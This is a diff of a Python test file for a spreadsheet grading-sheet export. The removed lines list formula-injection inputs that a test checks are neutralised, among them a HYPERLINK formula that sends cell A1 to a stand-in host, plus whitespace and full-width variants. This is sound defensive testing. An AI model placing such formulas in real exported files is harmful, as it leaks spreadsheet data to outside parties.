@@ -40,6 +40,7 @@ from engine.study.judged_pairs import (
 from tests.engine.judged import FILE, pairs_in, save_answer
 from tests.expected import present
 from tests.many_cases import every
+from tests.pieces import pieces
 from tests.thoroughness import tried
 
 # The grading sheet: blinded, harmless in a spreadsheet, and readable as any spreadsheet program saves it
@@ -102,21 +103,7 @@ def test_an_answer_of_several_turns_shows_all_that_are_graded() -> None:
     assert row[2] == "Assistant: On the 1st.\n\nUser: Why?\n\nAssistant: By law."
 
 
-@every(
-    "text",
-    [
-        '=HYPERLINK("http://x.example/?"&A1,"open")',
-        "+1",
-        "-2+3",
-        "@SUM(A1)",
-        "\t=1",
-        "\n=1",
-        "  =1",
-        "＝1",
-        "'=1",
-        "'''+1",
-    ],
-)
+@every("text", pieces("cells like a formula"))
 def test_a_cell_that_is_like_a_formula_is_neutralised(text: str) -> None:
     (*_, row) = rows_of(grading_sheet([pair(criterion=text, answer=text)]))
     assert [cell[0] for cell in row[2:4]] == ["'", "'"]
